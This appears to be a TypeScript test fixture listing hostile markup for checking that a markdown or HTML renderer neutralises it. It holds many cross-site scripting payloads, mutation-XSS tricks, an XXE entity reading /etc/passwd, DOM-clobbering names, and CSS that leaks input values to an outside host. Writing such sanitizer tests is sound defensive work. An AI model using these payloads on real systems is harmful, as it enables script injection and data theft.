import { type Attempts, elsewhere, script } from './hostile-input.ts'

/** Markup that would run, load or shadow something, were it ever taken for HTML. */

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput',
]

const tags: Attempts = {
  script: `<script>${script}</script>`,
  'script, odd case': `<ScRiPt>${script}</sCrIpT>`,
  'script from elsewhere': `<script src="${elsewhere}/a.js"></script>`,
  'script, broken': `<scr<script>ipt>${script}</scr</script>ipt>`,
  'script, open': `<script>${script}`,
  'script in a module': `<script type="module">import('${elsewhere}/a.js')</script>`,
  iframe: `<iframe src="javascript:${script}"></iframe>`,
  'iframe, written': `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
  object: `<object data="javascript:${script}"></object>`,
  embed: `<embed src="${elsewhere}/a.swf">`,
  'link to a style': `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  'link prefetched': `<link rel="prefetch" href="${elsewhere}/a"><link rel="dns-prefetch" href="//canary.example">`,
  'link preconnected': `<link rel="preconnect" href="${elsewhere}">`,
  icon: `<link rel="icon" href="${elsewhere}/favicon.ico">`,
  base: `<base href="${elsewhere}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  'a weaker policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  form: `<form action="${elsewhere}/"><input name="a" autofocus><button>Envoyer</button></form>`,
  'form button': `<button formaction="javascript:${script}">x</button>`,
  template: `<template><script>${script}</script></template>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  math: `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${script}>`,
  comment: `<!--><img src=x onerror=${script}>-->`,
  cdata: `<![CDATA[<script>${script}</script>]]>`,
  instruction: `<?xml-stylesheet href="${elsewhere}/a.xsl"?>`,
  doctype: `<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`,
  plaintext: '<plaintext>',
  xmp: '<xmp><p>',
  video: `<video><source src=x onerror=${script}></video>`,
  audio: `<audio src="${elsewhere}/a.mp3" autoplay>`,
  dialog: `<dialog open>${script}</dialog>`,
  portal: `<portal src="${elsewhere}/">`,
  webview: `<webview src="${elsewhere}/" nodeintegration></webview>`,
  'custom element': '<x-element is="script">',
  'shadow root': `<div><template shadowrootmode="open"><script>${script}</script></template></div>`,
  entities: `&lt;script&gt;${script}&lt;/script&gt; &#60;script&#62;${script}`,
  'entities without end': `&#x3c&#x73&#x63ript&#x3e${script}`,
  'in code': `\`<script>${script}</script>\``,
  'in a code block': `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  'in the name of a code block': `\`\`\`"><script>${script}</script>\nx\n\`\`\``,
  'in a table': `| <script>${script}</script> | b |\n|---|---|\n| <img src=x onerror=${script}> | c |`,
  'in an alert': `> [!WARNING]\n> <script>${script}</script>`,
  'in the name of an alert': `> [!<script>${script}</script>]\n> x`,
  'after a null': `<\u0000script>${script}</script>`,
  'with wide brackets': `＜script＞${script}＜/script＞`,
}

const styles: Attempts = {
  'style element': `<style>@import url(${elsewhere}/a.css);</style>`,
  'style of everything': '<style>*{display:none!important}</style>',
  'style attribute': `<p style="background:url(${elsewhere}/a.png)">x</p>`,
  'style behaviour': `<p style="behavior:url(${elsewhere}/a.htc);-moz-binding:url(${elsewhere}/a.xml)">x</p>`,
  'style expression': `<p style="width:expression(${script})">x</p>`,
  'style over the page': '<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>',
  'style that spies': `<style>input[value^="a"]{background:url(${elsewhere}/a)}</style>`,
  'style font': `<style>@font-face{font-family:x;src:url(${elsewhere}/a.woff2)}*{font-family:x}</style>`,
}

const vectors: Attempts = {
  svg: `<svg onload=${script}>`,
  'svg script': `<svg><script>${script}</script></svg>`,
  'svg foreign': `<svg><foreignObject><body onload=${script}></foreignObject></svg>`,
  'svg use': `<svg><use href="${elsewhere}/a.svg#x"/></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values=javascript:${script} /><text>x</text></a></svg>`,
  'svg image': `<svg><image href="${elsewhere}/a.png"/></svg>`,
  'svg by data': `![x](data:image/svg+xml,<svg/onload=${script}>)`,
  'picture from elsewhere': `![x](${elsewhere}/a.png)`,
  'picture by reference': `![x][y]\n\n[y]: ${elsewhere}/a.png`,
  'picture with a handler': `![x](x "onerror=${script}")`,
  'picture that is a script': `![x](javascript:${script})`,
  'picture from a share':
    '![x](//canary.example/share/a.png) ![y](\\\\canary.example\\share\\a.png)',
}

/** Names that a page of ours, or the browser, looks for. */
const shadows: Attempts = Object.fromEntries(
  [
    'root',
    'app',
    'body',
    'head',
    'location',
    'document',
    'cookie',
    'constructor',
    'prototype',
    'tostring',
    'valueof',
    'hasownproperty',
    'innerhtml',
    'documentelement',
    'getelementbyid',
    'queryselector',
    'default-view',
    'main',
    'parentnode',
    'attributes',
  ].map((id) => [
    `identifier ${id}`,
    `### Titre {#${id}}\n\n<a id="${id}" name="${id}"><form id="${id}"><input name="${id}"></form>`,
  ]),
)

export const markup: Readonly<Record<string, Attempts>> = {
  tags,
  handlers: Object.fromEntries(
    handlers.flatMap((handler) => [
      [`${handler} on a tag`, `<img src=x ${handler}="${script}">`],
      [`${handler} after a slash`, `<img/src=x/${handler}=${script}/autofocus/tabindex=1>`],
    ]),
  ),
  styles,
  vectors,
  shadows,
}
